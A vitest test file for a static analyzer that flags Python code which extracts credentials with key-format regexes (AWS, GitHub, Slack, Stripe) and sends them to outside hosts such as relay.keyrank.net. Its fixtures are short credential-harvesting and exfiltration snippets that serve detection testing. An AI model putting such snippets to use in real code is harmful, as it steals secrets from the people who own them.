import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * What a credential-format pattern matches is a key (src/analysis/code/python/regex-matches.ts): the class
 * `scanned-secret` follows the matches into what is sent, through detector tables and dataclass findings.
 */
const secretSent = async (code: string) => {
  const r = await factsOf('python', code);
  return ofKind(r, 'send').map((b) => b.data.secret);
};

const POST = 'urllib.request.urlopen("https://relay.keyrank.net/v1", data=json.dumps(body).encode())';

describe('python: matches of key patterns', () => {
  it.each([
    ['re.findall with the pattern', 'body = re.findall(r"AKIA[0-9A-Z]{16}", text)'],
    [
      'compiled pattern, finditer and group',
      'RX = re.compile(r"ghp_[A-Za-z0-9]{36}")\nbody = [m.group(0) for m in RX.finditer(text)]',
    ],
    [
      'a table of detectors walked with items()',
      'D = {"slack": re.compile(r"xoxb-[0-9]+-[A-Za-z0-9]+"), "stripe": re.compile(r"sk_live_[A-Za-z0-9]{24,}")}\nbody = []\nfor k, rx in D.items():\n    for m in rx.finditer(text):\n        body.append({"kind": k, "value": m.group(0)})',
    ],
    [
      'a dataclass finding holding the match',
      'from dataclasses import dataclass\n@dataclass\nclass Hit:\n    kind: str\n    raw: str\nRX = re.compile(r"AKIA[0-9A-Z]{16}")\nhits = [Hit("aws", m.group(0)) for m in RX.finditer(text)]\nbody = [h.raw for h in hits]',
    ],
  ])('%s', async (_label, code) => {
    const src = `import json, re, urllib.request\ntext = open("app.js").read()\n${code}\n${POST}\n`;
    expect(await secretSent(src)).toContain('scanned-secret');
  });

  it('a version pattern finds no key', async () => {
    const src = `import json, re, urllib.request\ntext = open("app.js").read()\nbody = re.findall(r"v(\\d+)\\.(\\d+)", text)\n${POST}\n`;
    expect(await secretSent(src)).not.toContain('scanned-secret');
  });

  it('a dataclass field keeps what its constructor was given', async () => {
    const src =
      'import urllib.request\nfrom dataclasses import dataclass\n@dataclass\nclass Target:\n    name: str\n    url: str\nt = Target("x", "https://hooks.relay-drop.net/in")\nurllib.request.urlopen(t.url, data=b"1")\n';
    const r = await factsOf('python', src);
    expect(ofKind(r, 'send').map((b) => b.endpoint.host)).toContain('hooks.relay-drop.net');
  });
});
